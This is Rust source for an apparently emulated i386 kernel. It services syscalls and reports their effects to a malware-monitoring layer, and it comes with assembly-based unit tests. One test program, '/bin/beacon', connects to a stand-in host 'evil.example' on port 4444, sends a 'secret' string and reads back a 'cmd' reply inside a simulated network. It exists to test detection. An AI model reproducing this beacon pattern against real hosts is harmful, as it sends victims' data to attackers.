                    return ("SYS_send", -errno::EFAULT, SyscallEffect::None);
                };
                let (ret, effect) = self.sys_write(proc, fd as i32, buf, len);
                ("SYS_send", ret, effect)
            }
            sockcall::RECV => {
                let (Ok(fd), Ok(buf), Ok(len)) =
                    (arg(&proc.core, 0), arg(&proc.core, 1), arg(&proc.core, 2))
                else {
                    return ("SYS_recv", -errno::EFAULT, SyscallEffect::None);
                };
                let (ret, effect) = self.sys_read(proc, fd as i32, buf, len);
                ("SYS_recv", ret, effect)
            }
            _ => ("SYS_socketcall", -errno::EINVAL, SyscallEffect::None),
        }
    }
}

/// Reads the simplified 8-byte sockaddr `{u16 family, u16 port, u32 ip}`
/// (all little-endian; family 2 = AF_INET).
fn read_sockaddr(core: &Core, addr: u32) -> Option<Endpoint> {
    let family = core.mem.read_u32(addr).ok()? & 0xffff;
    if family != 2 {
        return None;
    }
    let word = core.mem.read_u32(addr).ok()?;
    let port = (word >> 16) as u16;
    let ip = core.mem.read_u32(addr + 4).ok()?;
    Some(Endpoint { ip, port })
}

/// Writes the simplified sockaddr.
fn write_sockaddr(core: &mut Core, addr: u32, ep: Endpoint) -> Result<(), hth_vm::MemFault> {
    core.mem.write_u32(addr, 2 | (u32::from(ep.port) << 16))?;
    core.mem.write_u32(addr + 4, ep.ip)
}

/// Builds the initial stack: `argc`, `argv[]`, `envp[]` and their
/// strings. Returns the `[esp, top)` range holding this user-controlled
/// content — the monitor tags it `USER_INPUT` (paper §7.3.3).
pub fn build_initial_stack(core: &mut Core, argv: &[&str], env: &[(&str, &str)]) -> (u32, u32) {
    let top = STACK_TOP - 16;
    let mut cursor = top;
    let mut write_str = |core: &mut Core, s: &str| -> u32 {
        cursor -= s.len() as u32 + 1;
        core.mem.write_bytes(cursor, s.as_bytes()).expect("stack mapped");
        core.mem.write_u8(cursor + s.len() as u32, 0).expect("stack mapped");
        cursor
    };
    let arg_ptrs: Vec<u32> = argv.iter().map(|a| write_str(core, a)).collect();
    let env_ptrs: Vec<u32> =
        env.iter().map(|(k, v)| write_str(core, &format!("{k}={v}"))).collect();
    let mut sp = cursor & !3;
    let mut push = |core: &mut Core, v: u32| {
        sp -= 4;
        core.mem.write_u32(sp, v).expect("stack mapped");
    };
    push(core, 0);
    for &p in env_ptrs.iter().rev() {
        push(core, p);
    }
    push(core, 0);
    for &p in arg_ptrs.iter().rev() {
        push(core, p);
    }
    push(core, argv.len() as u32);
    core.cpu.set(Reg::Esp, sp);
    (sp, top)
}

#[cfg(test)]
mod tests {
    use super::*;
    use hth_vm::{NullHooks, StepEvent};

    /// Runs a registered binary to completion without any monitor,
    /// servicing syscalls; returns the records and the kernel.
    fn run(kernel: &mut Kernel, path: &str, argv: &[&str]) -> (Vec<SyscallRecord>, Process) {
        let mut proc = kernel.spawn(path, argv, &[]).unwrap();
        let mut records = Vec::new();
        for _ in 0..200_000 {
            if !proc.runnable() {
                break;
            }
            match proc.core.step(&mut NullHooks).unwrap() {
                StepEvent::Continue => {}
                StepEvent::Halted => break,
                StepEvent::Interrupt(0x80) => {
                    let rec = kernel.syscall(&mut proc);
                    records.push(rec);
                }
                StepEvent::Interrupt(_) => break,
            }
        }
        (records, proc)
    }

    #[test]
    fn spawn_builds_runnable_process_with_argv() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/echoargs",
            r"
            _start:
                mov eax, [esp]      ; argc
                hlt
            ",
            &[],
        );
        let mut proc = kernel.spawn("/bin/echoargs", &["/bin/echoargs", "a", "bb"], &[]).unwrap();
        while proc.core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
        assert_eq!(proc.core.cpu.get(Reg::Eax), 3);
        let (lo, hi) = proc.initial_stack;
        assert!(lo < hi && hi <= STACK_TOP);
    }

    #[test]
    fn open_write_read_close_cycle() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/filer",
            r#"
            .equ SYS_read, 3
            .equ SYS_write, 4
            .equ SYS_open, 5
            .equ SYS_close, 6
            .equ SYS_exit, 1
            .equ O_CREAT, 0x40
            _start:
                mov eax, SYS_open
                mov ebx, path
                mov ecx, O_CREAT
                int 0x80
                mov esi, eax        ; fd
                mov eax, SYS_write
                mov ebx, esi
                mov ecx, msg
                mov edx, 5
                int 0x80
                mov eax, SYS_close
                mov ebx, esi
                int 0x80
                mov eax, SYS_exit
                mov ebx, 0
                int 0x80
            .data
            path: .asciz "/tmp/out"
            msg:  .asciz "hello"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/filer", &["/bin/filer"]);
        assert_eq!(proc.state, ProcState::Exited(0));
        assert_eq!(kernel.vfs.get("/tmp/out").unwrap().data(), b"hello");
        assert!(matches!(records[0].effect, SyscallEffect::Open { fd: 3, .. }));
        assert!(matches!(
            &records[1].effect,
            SyscallEffect::Write { resource: Resource::File { path, .. }, len: 5, .. }
            if path == "/tmp/out"
        ));
        assert!(matches!(records[2].effect, SyscallEffect::Close { .. }));
    }

    #[test]
    fn predefined_abi_consts_need_no_equ() {
        // The generated ABI constants are pre-seeded into every
        // assembly: the same program as above, without a single .equ.
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/filer2",
            r#"
            _start:
                mov eax, SYS_open
                mov ebx, path
                mov ecx, O_CREAT
                int 0x80
                mov esi, eax
                mov eax, SYS_write
                mov ebx, esi
                mov ecx, msg
                mov edx, 5
                int 0x80
                mov eax, SYS_exit
                mov ebx, 0
                int 0x80
            .data
            path: .asciz "/tmp/out2"
            msg:  .asciz "hello"
            "#,
            &[],
        );
        let (_, proc) = run(&mut kernel, "/bin/filer2", &["/bin/filer2"]);
        assert_eq!(proc.state, ProcState::Exited(0));
        assert_eq!(kernel.vfs.get("/tmp/out2").unwrap().data(), b"hello");
    }

    #[test]
    fn stdin_is_scripted_user_input() {
        let mut kernel = Kernel::new();
        kernel.push_stdin(b"secret".to_vec());
        kernel.register_binary(
            "/bin/reader",
            r"
            _start:
                mov eax, 3          ; read
                mov ebx, 0          ; stdin
                mov ecx, 0x09000000 ; scratch
                mov edx, 64
                int 0x80
                hlt
            ",
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/reader", &["r"]);
        assert_eq!(records[0].ret, 6);
        assert!(matches!(records[0].effect, SyscallEffect::Read { resource: Resource::Stdin, .. }));
        assert_eq!(proc.core.mem.read_bytes(0x0900_0000, 6).unwrap(), b"secret");
    }

    #[test]
    fn execve_reports_and_logs() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/launcher",
            r#"
            _start:
                mov eax, 11
                mov ebx, prog
                int 0x80
                hlt
            .data
            prog: .asciz "/bin/ls"
            "#,
            &[],
        );
        let (records, _) = run(&mut kernel, "/bin/launcher", &["l"]);
        assert_eq!(records[0].name, "SYS_execve");
        assert!(matches!(
            &records[0].effect,
            SyscallEffect::ExecRequested { path, found: false, .. } if path == "/bin/ls"
        ));
        assert_eq!(kernel.exec_log, vec!["/bin/ls".to_string()]);
        assert_eq!(records[0].ret, -errno::ENOENT);
    }

    #[test]
    fn fork_clones_and_resumes_child() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/forker",
            r"
            _start:
                mov eax, 2          ; fork
                int 0x80
                hlt
            ",
            &[],
        );
        let mut parent = kernel.spawn("/bin/forker", &["f"], &[]).unwrap();
        // Step to the interrupt.
        while parent.core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
        let rec = kernel.syscall(&mut parent);
        assert!(matches!(rec.effect, SyscallEffect::ForkRequested));
        let child = kernel.fork(&parent);
        parent.core.cpu.set(Reg::Eax, child.pid);
        assert_eq!(child.core.cpu.get(Reg::Eax), 0);
        assert_eq!(child.parent, parent.pid);
        assert_ne!(child.pid, parent.pid);
        assert_eq!(kernel.fork_ticks.len(), 1);
    }

    #[test]
    fn socket_client_round_trip() {
        use crate::net::Peer;
        let mut kernel = Kernel::new();
        kernel.net.add_host("evil.example", 0x0808_0808);
        kernel.net.add_peer(
            Endpoint { ip: 0x0808_0808, port: 4444 },
            Peer { replies: [b"cmd".to_vec()].into(), ..Peer::default() },
        );
        kernel.register_binary(
            "/bin/beacon",
            r#"
            .equ SCRATCH, 0x09000000
            _start:
                ; socket()
                mov eax, 102
                mov ebx, 1
                mov ecx, sockargs
                int 0x80
                mov esi, eax                ; fd
                ; connect(fd, &addr, 8)
                mov [connargs], esi
                mov eax, 102
                mov ebx, 3
                mov ecx, connargs
                int 0x80
                ; send(fd, secret, 6, 0)
                mov [sendargs], esi
                mov eax, 102
                mov ebx, 9
                mov ecx, sendargs
                int 0x80
                ; recv(fd, SCRATCH, 16, 0)
                mov [recvargs], esi
                mov eax, 102
                mov ebx, 10
                mov ecx, recvargs
                int 0x80
                hlt
            .data
            sockargs: .long 2, 1, 0
            addr:     .word 2
            port:     .word 4444
            ip:       .long 0x08080808
            connargs: .long 0, addr, 8
            secret:   .asciz "secret"
            sendargs: .long 0, secret, 6, 0
            recvargs: .long 0, 0x09000000, 16, 0
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/beacon", &["b"]);
        assert!(matches!(records[0].effect, SyscallEffect::SocketCreated { fd: 3 }));
        assert!(matches!(
            records[1].effect,
            SyscallEffect::Connect { endpoint: Endpoint { ip: 0x0808_0808, port: 4444 }, .. }
        ));
        assert!(matches!(records[2].effect, SyscallEffect::Write { len: 6, .. }));
        assert!(matches!(records[3].effect, SyscallEffect::Read { len: 3, .. }));
        assert_eq!(
            kernel.net.peer_received(Endpoint { ip: 0x0808_0808, port: 4444 }),
            &[b"secret".to_vec()]
        );
        assert_eq!(proc.core.mem.read_bytes(0x0900_0000, 3).unwrap(), b"cmd");
    }

    #[test]
    fn resolve_syscall_resolves_dns() {
        let mut kernel = Kernel::new();
        kernel.net.add_host("pop.mail.yahoo.com", 0x0101_0101);
        kernel.register_binary(
            "/bin/dns",
            r#"
            _start:
                mov eax, 200
                mov ebx, host
                int 0x80
                hlt
            .data
            host: .asciz "pop.mail.yahoo.com"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/dns", &["d"]);
        assert!(matches!(
            &records[0].effect,
            SyscallEffect::Resolve { name, ok: true, .. } if name == "pop.mail.yahoo.com"
        ));
        assert_eq!(proc.core.cpu.get(Reg::Eax), 0x0101_0101);
    }

    #[test]
    fn nanosleep_advances_clock() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/sleepy",
            "_start:\n mov eax, 162\n mov ebx, 500\n int 0x80\n hlt\n",
            &[],
        );
        assert_eq!(kernel.now(), 0);
        let (records, _) = run(&mut kernel, "/bin/sleepy", &["s"]);
        assert!(matches!(records[0].effect, SyscallEffect::Sleep { ticks: 500 }));
        assert_eq!(kernel.now(), 500);
    }

    #[test]
    fn instruction_accounting_ticks() {
        let mut kernel = Kernel::new();
        kernel.set_instr_per_tick(10);
        kernel.note_instructions(25);
        assert_eq!(kernel.now(), 2);
        kernel.note_instructions(5);
        assert_eq!(kernel.now(), 3);
    }

    #[test]
    fn mknod_creates_fifo_and_io_works() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/piper",
            r#"
            _start:
                mov eax, 14          ; mknod
                mov ebx, pipe_name
                mov ecx, 0x1000
                int 0x80
                mov eax, 5           ; open
                mov ebx, pipe_name
                mov ecx, 0x1
                int 0x80
                mov esi, eax
                mov eax, 4           ; write
                mov ebx, esi
                mov ecx, data
                mov edx, 3
                int 0x80
                hlt
            .data
            pipe_name: .asciz "inpipe1"
            data: .asciz "ok!"
            "#,
            &[],
        );
        let (records, _) = run(&mut kernel, "/bin/piper", &["p"]);
        assert!(
            matches!(&records[0].effect, SyscallEffect::Mknod { path, .. } if path == "inpipe1")
        );
        assert!(matches!(
            &records[2].effect,
            SyscallEffect::Write { resource: Resource::File { fifo: true, .. }, .. }
        ));
        assert_eq!(kernel.vfs.read("inpipe1", 0, 10).unwrap(), b"ok!");
    }

    #[test]
    fn pipe_write_read_round_trip_and_dup2() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/plumber",
            r#"
            _start:
                mov eax, SYS_pipe
                mov ebx, fdbuf
                int 0x80
                ; write("abc") into the write end
                mov eax, SYS_write
                mov ebx, [wrfd]
                mov ecx, data
                mov edx, 3
                int 0x80
                ; dup2(read end, 10)
                mov eax, SYS_dup2
                mov ebx, [rdfd]
                mov ecx, 10
                int 0x80
                ; read from fd 10
                mov eax, SYS_read
                mov ebx, 10
                mov ecx, 0x09000000
                mov edx, 16
                int 0x80
                hlt
            .data
            fdbuf:
            rdfd: .long 0
            wrfd: .long 0
            data: .asciz "abc"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/plumber", &["p"]);
        assert!(matches!(
            records[0].effect,
            SyscallEffect::PipeCreated { read_fd: 3, write_fd: 4, .. }
        ));
        assert!(matches!(
            records[1].effect,
            SyscallEffect::Write { resource: Resource::Pipe { .. }, len: 3, .. }
        ));
        assert!(matches!(records[2].effect, SyscallEffect::Dup { old: 3, new: 10, .. }));
        assert_eq!(records[3].ret, 3);
        assert!(matches!(
            records[3].effect,
            SyscallEffect::Read { resource: Resource::Pipe { .. }, len: 3, .. }
        ));
        assert_eq!(proc.core.mem.read_bytes(0x0900_0000, 3).unwrap(), b"abc");
    }

    #[test]
    fn mmap_maps_file_bytes_and_munmap_validates() {
        let mut kernel = Kernel::new();
        kernel.vfs.install("/data/blob", crate::vfs::FileNode::regular(b"mapped-bytes".as_slice()));
        kernel.register_binary(
            "/bin/mapper",
            r#"
            _start:
                mov eax, SYS_open
                mov ebx, path
                mov ecx, O_RDONLY
                int 0x80
                mov esi, eax
                mov eax, SYS_mmap
                mov ebx, esi
                mov ecx, 12
                mov edx, 0
                int 0x80
                mov edi, eax        ; mapping address
                mov eax, SYS_munmap
                mov ebx, edi
                mov ecx, 12
                int 0x80
                hlt
            .data
            path: .asciz "/data/blob"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/mapper", &["m"]);
        let SyscallEffect::Mmap { addr, len: 12, .. } = records[1].effect else {
            panic!("expected Mmap effect, got {:?}", records[1].effect);
        };
        assert_eq!(addr, MMAP_BASE);
        assert_eq!(proc.core.mem.read_bytes(addr, 12).unwrap(), b"mapped-bytes");
        assert!(matches!(records[2].effect, SyscallEffect::Munmap { len: 12, .. }));
    }

    #[test]
    fn proc_self_status_is_synthesized_read_only() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/introspect",
            r#"
            _start:
                mov eax, SYS_open
                mov ebx, path
                mov ecx, O_RDONLY
                int 0x80
                mov esi, eax
                mov eax, SYS_read
                mov ebx, esi
                mov ecx, 0x09000000
                mov edx, 128
                int 0x80
                ; writing to a /proc fd must fail
                mov eax, SYS_write
                mov ebx, esi
                mov ecx, path
                mov edx, 4
                int 0x80
                hlt
            .data
            path: .asciz "/proc/self/status"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/introspect", &["me"]);
        assert!(matches!(
            &records[0].effect,
            SyscallEffect::Open { resource: Resource::Proc { path }, .. }
            if path == "/proc/self/status"
        ));
        let n = records[1].ret;
        assert!(n > 0);
        let text =
            String::from_utf8(proc.core.mem.read_bytes(0x0900_0000, n as u32).unwrap()).unwrap();
        assert!(text.contains("Name:\tintrospect"), "got {text:?}");
        assert!(text.contains("Pid:\t1"));
        assert_eq!(records[2].ret, -errno::EBADF, "proc views are read-only");
    }

    #[test]
    fn select_reports_readable_fds_and_burns_timeout() {
        let mut kernel = Kernel::new();
        kernel.push_stdin(b"x".to_vec());
        kernel.register_binary(
            "/bin/selector",
            r#"
            _start:
                ; select over {stdin} -> ready
                mov eax, SYS_select
                mov ebx, 1
                mov ecx, fdset
                mov edx, 0
                int 0x80
                mov esi, eax
                ; drain stdin, then select again with a timeout
                mov eax, SYS_read
                mov ebx, 0
                mov ecx, 0x09000000
                mov edx, 8
                int 0x80
                mov eax, SYS_select
                mov ebx, 1
                mov ecx, fdset2
                mov edx, 40
                int 0x80
                hlt
            .data
            fdset:  .long 1
            fdset2: .long 1
            "#,
            &[],
        );
        let before = kernel.now();
        let (records, _) = run(&mut kernel, "/bin/selector", &["s"]);
        assert_eq!(records[0].ret, 1, "stdin readable");
        assert_eq!(records[2].ret, 0, "drained stdin not readable");
        assert!(kernel.now() >= before + 40, "fruitless select burns its timeout");
    }

    #[test]
    fn kill_and_sigaction_report_effects() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/killer",
            r"
            _start:
                mov eax, SYS_sigaction
                mov ebx, SIGTERM
                mov ecx, handler
                int 0x80
                mov eax, SYS_kill
                mov ebx, 7
                mov ecx, SIGKILL
                int 0x80
                hlt
            handler:
                ret
            ",
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/killer", &["k"]);
        assert_eq!(records[0].ret, 0);
        assert!(proc.sig_handlers.contains_key(&15));
        assert!(matches!(records[1].effect, SyscallEffect::SignalRequested { target: 7, sig: 9 }));
    }

    #[test]
    fn brk_total_past_cap_does_not_wrap() {
        let mut kernel = Kernel::new();
        let mut proc = {
            kernel.register_binary("/bin/hog", "_start:\n hlt\n", &[]);
            kernel.spawn("/bin/hog", &["h"], &[]).unwrap()
        };
        // Grow far past MAX_HEAP repeatedly: totals keep accumulating
        // but mapping stops, and the u32 base arithmetic never wraps.
        for _ in 0..4096 {
            let (_, effect) = kernel.sys_brk(&mut proc, u32::MAX);
            assert!(matches!(effect, SyscallEffect::Brk { .. }));
        }
        assert!(proc.heap_bytes > MAX_HEAP);
    }
}
