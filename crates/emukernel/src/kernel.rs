//! The kernel: syscall dispatch, process construction, virtual time.
//!
//! Syscalls follow the i386 Linux convention the paper's Harrier hooks:
//! `int 0x80` with the number in `eax` and arguments in `ebx`, `ecx`,
//! `edx`. Every serviced call returns a [`SyscallRecord`] describing the
//! *observable effect* — which resource was touched, which memory ranges
//! were read or written, where name/address arguments lived — which is
//! exactly the information Harrier needs to tag data and emit Secpert
//! events without re-parsing arguments itself.

use std::collections::HashMap;

use hth_vm::{asm, Core, Reg, VmError};

use crate::net::{Endpoint, NetError, Network, SocketState};
use crate::process::{FdKind, FdTable, ProcState, Process};
use crate::vfs::{FileKind, Vfs};

/// Syscall numbers (i386 Linux flavour; `SYS_RESOLVE` is the custom
/// name-resolution backend used by the toy libc's `gethostbyname`).
pub mod sysno {
    #![allow(missing_docs)]
    pub const EXIT: u32 = 1;
    pub const FORK: u32 = 2;
    pub const READ: u32 = 3;
    pub const WRITE: u32 = 4;
    pub const OPEN: u32 = 5;
    pub const CLOSE: u32 = 6;
    pub const EXECVE: u32 = 11;
    pub const TIME: u32 = 13;
    pub const MKNOD: u32 = 14;
    pub const CHMOD: u32 = 15;
    pub const GETPID: u32 = 20;
    pub const DUP: u32 = 41;
    pub const BRK: u32 = 45;
    pub const SOCKETCALL: u32 = 102;
    pub const CLONE: u32 = 120;
    pub const NANOSLEEP: u32 = 162;
    pub const RESOLVE: u32 = 200;
}

/// `socketcall` sub-call numbers.
pub mod sockcall {
    #![allow(missing_docs)]
    pub const SOCKET: u32 = 1;
    pub const BIND: u32 = 2;
    pub const CONNECT: u32 = 3;
    pub const LISTEN: u32 = 4;
    pub const ACCEPT: u32 = 5;
    pub const SEND: u32 = 9;
    pub const RECV: u32 = 10;
}

/// `open` flag bits (subset).
pub mod oflags {
    #![allow(missing_docs)]
    pub const RDONLY: u32 = 0;
    pub const WRONLY: u32 = 0x1;
    pub const RDWR: u32 = 0x2;
    pub const CREAT: u32 = 0x40;
    pub const TRUNC: u32 = 0x200;
    pub const APPEND: u32 = 0x400;
}

/// Errno values (returned negated).
pub mod errno {
    #![allow(missing_docs)]
    pub const ENOENT: i32 = 2;
    pub const ENOEXEC: i32 = 8;
    pub const EBADF: i32 = 9;
    pub const EAGAIN: i32 = 11;
    pub const EFAULT: i32 = 14;
    pub const EINVAL: i32 = 22;
    pub const ENOSYS: i32 = 38;
    pub const ECONNREFUSED: i32 = 111;
}

/// A kernel-level resource, as seen at a syscall boundary.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Resource {
    /// A VFS file.
    File {
        /// Path.
        path: String,
        /// True for FIFOs.
        fifo: bool,
    },
    /// Console input.
    Stdin,
    /// Console output.
    Stdout,
    /// Console error.
    Stderr,
    /// A socket with whatever endpoints are known.
    Socket {
        /// Local endpoint if bound/connected.
        local: Option<Endpoint>,
        /// Remote endpoint if connected.
        remote: Option<Endpoint>,
        /// The socket (or its listener) accepts remote connections.
        listening: bool,
        /// This connection was produced by `accept`.
        accepted: bool,
    },
}

/// Observable effect of a serviced syscall (consumed by Harrier).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum SyscallEffect {
    /// Nothing the monitor cares about.
    None,
    /// Process exited.
    Exit {
        /// Exit status.
        code: i32,
    },
    /// `fork`/`clone`: the session must create the child via
    /// [`Kernel::fork`] and fix up both `eax` values.
    ForkRequested,
    /// `execve`: the session decides whether to run the new image.
    ExecRequested {
        /// Requested path.
        path: String,
        /// Address of the path string (for resource-id taint).
        path_addr: u32,
        /// True when the kernel knows a binary by this name.
        found: bool,
    },
    /// A resource was opened.
    Open {
        /// New descriptor.
        fd: i32,
        /// What was opened.
        resource: Resource,
        /// Address of the path argument string.
        path_addr: u32,
    },
    /// A descriptor was closed.
    Close {
        /// What it referred to.
        resource: Resource,
    },
    /// Bytes were read into process memory at `[buf, buf+len)`.
    Read {
        /// Source resource.
        resource: Resource,
        /// Destination buffer address.
        buf: u32,
        /// Bytes actually read.
        len: u32,
    },
    /// Bytes were written from process memory at `[buf, buf+len)`.
    Write {
        /// Target resource.
        resource: Resource,
        /// Source buffer address.
        buf: u32,
        /// Bytes written.
        len: u32,
    },
    /// `dup`.
    Dup {
        /// Original descriptor.
        old: i32,
        /// New descriptor.
        new: i32,
        /// Shared resource.
        resource: Resource,
    },
    /// `socket()` created a descriptor.
    SocketCreated {
        /// New descriptor.
        fd: i32,
    },
    /// `bind`.
    Bind {
        /// Socket resource after binding.
        resource: Resource,
        /// Address of the sockaddr argument.
        addr_ptr: u32,
        /// Bound endpoint.
        endpoint: Endpoint,
    },
    /// `listen` — the program is now a server (paper: High-severity
    /// signal when combined with hardcoded addresses).
    Listen {
        /// Listening socket resource.
        resource: Resource,
    },
    /// `connect`.
    Connect {
        /// Connected socket resource.
        resource: Resource,
        /// Address of the sockaddr argument (for resource-id taint).
        addr_ptr: u32,
        /// Remote endpoint.
        endpoint: Endpoint,
    },
    /// `accept` produced a connected socket.
    Accept {
        /// New descriptor.
        fd: i32,
        /// Connected socket resource.
        resource: Resource,
    },
    /// Custom name resolution (`gethostbyname` backend). Harrier
    /// short-circuits taint across this call (paper §7.2).
    Resolve {
        /// The name that was resolved.
        name: String,
        /// Address of the name string.
        name_addr: u32,
        /// Resolution succeeded.
        ok: bool,
    },
    /// `mknod` created a FIFO.
    Mknod {
        /// FIFO path.
        path: String,
        /// Address of the path string.
        path_addr: u32,
    },
    /// `chmod`.
    Chmod {
        /// Path affected.
        path: String,
    },
    /// `nanosleep` advanced virtual time.
    Sleep {
        /// Ticks slept.
        ticks: u64,
    },
    /// `brk` grew the heap (resource-abuse signal, paper §10 item 4).
    Brk {
        /// Bytes requested by this call.
        grew: u64,
        /// Total heap bytes allocated by the process so far.
        total: u64,
    },
}

/// A serviced syscall: number, name, return value, effect.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SyscallRecord {
    /// Raw syscall number.
    pub number: u32,
    /// Symbolic name in the paper's notation (`SYS_execve`).
    pub name: &'static str,
    /// Value placed in `eax`.
    pub ret: i32,
    /// Observable effect.
    pub effect: SyscallEffect,
}

/// A registered executable: assembly source plus the shared objects it
/// links against.
#[derive(Clone, Debug)]
pub struct BinarySpec {
    /// Assembly source text.
    pub source: String,
    /// Library names (must be registered with [`Kernel::register_lib`]).
    pub libs: Vec<String>,
}

/// Base address where application text is assembled.
pub const APP_BASE: u32 = 0x0804_8000;
/// Base address of the first shared object; subsequent ones are spaced
/// by `LIB_STRIDE`.
pub const LIB_BASE: u32 = 0x4000_0000;
/// Address stride between shared objects.
pub const LIB_STRIDE: u32 = 0x0100_0000;
/// Scratch (bss-like) region mapped into every process.
pub const SCRATCH_BASE: u32 = 0x0900_0000;
/// Scratch region size.
pub const SCRATCH_SIZE: u32 = 0x0004_0000;
/// Heap base address (`brk` grows upward from here).
pub const HEAP_BASE: u32 = 0x0a00_0000;
/// Maximum heap bytes a process may map (64 MiB).
pub const MAX_HEAP: u64 = 0x0400_0000;
/// Stack region (grows down from `STACK_TOP`).
pub const STACK_BASE: u32 = 0xbfe0_0000;
/// Top of stack mapping.
pub const STACK_TOP: u32 = 0xc000_0000;

/// Errors from process construction.
#[derive(Debug)]
pub enum SpawnError {
    /// No binary registered under that path.
    UnknownBinary(String),
    /// A referenced library was never registered.
    UnknownLib(String),
    /// The binary or one of its libraries failed to assemble.
    Asm(asm::AsmError),
    /// Link-time symbol resolution failed.
    Link(VmError),
}

impl std::fmt::Display for SpawnError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SpawnError::UnknownBinary(p) => write!(f, "no binary registered at `{p}`"),
            SpawnError::UnknownLib(l) => write!(f, "library `{l}` not registered"),
            SpawnError::Asm(e) => write!(f, "{e}"),
            SpawnError::Link(e) => write!(f, "{e}"),
        }
    }
}

impl std::error::Error for SpawnError {}

impl From<asm::AsmError> for SpawnError {
    fn from(e: asm::AsmError) -> SpawnError {
        SpawnError::Asm(e)
    }
}

/// The OS kernel: filesystem, network, clock, binary registry, syscall
/// servicing. Processes themselves are owned by the monitoring session,
/// which drives scheduling; the kernel provides every mechanism.
#[derive(Debug, Default)]
pub struct Kernel {
    /// The filesystem.
    pub vfs: Vfs,
    /// The simulated network.
    pub net: Network,
    ticks: u64,
    instructions: u64,
    instr_per_tick: u64,
    next_pid: u32,
    binaries: HashMap<String, BinarySpec>,
    libs: HashMap<String, String>,
    stdin_script: std::collections::VecDeque<Vec<u8>>,
    stdout: Vec<u8>,
    /// Tick of every fork, for the resource-abuse rate rule.
    pub fork_ticks: Vec<u64>,
    /// Every path passed to `execve`, in order.
    pub exec_log: Vec<String>,
}

impl Kernel {
    /// Creates a kernel with an empty filesystem and default network.
    pub fn new() -> Kernel {
        Kernel { net: Network::new(), instr_per_tick: 50, next_pid: 1, ..Kernel::default() }
    }

    // ---- configuration -----------------------------------------------------

    /// Registers an executable under `path`.
    pub fn register_binary(&mut self, path: &str, source: &str, libs: &[&str]) {
        self.binaries.insert(
            path.to_string(),
            BinarySpec {
                source: source.to_string(),
                libs: libs.iter().map(|s| s.to_string()).collect(),
            },
        );
    }

    /// Registers a shared object by name.
    pub fn register_lib(&mut self, name: &str, source: &str) {
        self.libs.insert(name.to_string(), source.to_string());
    }

    /// Queues one chunk of console input (one `read(0, …)` consumes one
    /// chunk, like a line-buffered terminal).
    pub fn push_stdin(&mut self, chunk: impl Into<Vec<u8>>) {
        self.stdin_script.push_back(chunk.into());
    }

    /// Everything written to stdout/stderr so far.
    pub fn stdout(&self) -> &[u8] {
        &self.stdout
    }

    /// Sets how many retired instructions make one clock tick.
    pub fn set_instr_per_tick(&mut self, n: u64) {
        self.instr_per_tick = n.max(1);
    }

    // ---- time ---------------------------------------------------------------

    /// Current virtual time.
    pub fn now(&self) -> u64 {
        self.ticks
    }

    /// Accounts retired instructions toward the clock.
    pub fn note_instructions(&mut self, n: u64) {
        self.instructions += n;
        while self.instructions >= self.instr_per_tick {
            self.instructions -= self.instr_per_tick;
            self.ticks += 1;
        }
    }

    // ---- process construction ------------------------------------------------

    fn next_pid(&mut self) -> u32 {
        let pid = self.next_pid;
        self.next_pid += 1;
        pid
    }

    /// Builds a ready-to-run process for a registered binary.
    ///
    /// # Errors
    ///
    /// Returns [`SpawnError`] when the binary/libraries are unknown or
    /// fail to assemble or link.
    pub fn spawn(
        &mut self,
        path: &str,
        argv: &[&str],
        env: &[(&str, &str)],
    ) -> Result<Process, SpawnError> {
        let spec = self
            .binaries
            .get(path)
            .cloned()
            .ok_or_else(|| SpawnError::UnknownBinary(path.to_string()))?;
        let pid = self.next_pid();
        let core = self.build_core(path, &spec)?;
        let mut proc = Process {
            pid,
            parent: 0,
            core,
            fds: FdTable::new(),
            state: ProcState::Running,
            image_name: path.to_string(),
            cmdline: argv.iter().map(|s| s.to_string()).collect(),
            initial_stack: (0, 0),
            start_tick: self.now(),
            heap_bytes: 0,
        };
        proc.initial_stack = build_initial_stack(&mut proc.core, argv, env);
        proc.core.start();
        Ok(proc)
    }

    fn build_core(&self, path: &str, spec: &BinarySpec) -> Result<Core, SpawnError> {
        let mut core = Core::new();
        let app = asm::assemble(path, &spec.source, APP_BASE)?;
        core.load_image(app);
        for (i, lib) in spec.libs.iter().enumerate() {
            let src = self.libs.get(lib).ok_or_else(|| SpawnError::UnknownLib(lib.clone()))?;
            let img = asm::assemble(lib, src, LIB_BASE + i as u32 * LIB_STRIDE)?;
            core.load_image(img);
        }
        core.link().map_err(SpawnError::Link)?;
        core.mem.map(SCRATCH_BASE, SCRATCH_BASE + SCRATCH_SIZE);
        core.mem.map(STACK_BASE, STACK_TOP);
        Ok(core)
    }

    /// Forks `parent`: clones memory, registers and descriptors. The
    /// child's `eax` is 0; the caller sets the parent's `eax` to the
    /// returned child's pid.
    pub fn fork(&mut self, parent: &Process) -> Process {
        let pid = self.next_pid();
        self.fork_ticks.push(self.now());
        let mut core = parent.core.clone();
        core.cpu.set(Reg::Eax, 0);
        Process {
            pid,
            parent: parent.pid,
            core,
            fds: parent.fds.clone(),
            state: ProcState::Running,
            image_name: parent.image_name.clone(),
            cmdline: parent.cmdline.clone(),
            initial_stack: parent.initial_stack,
            start_tick: self.now(),
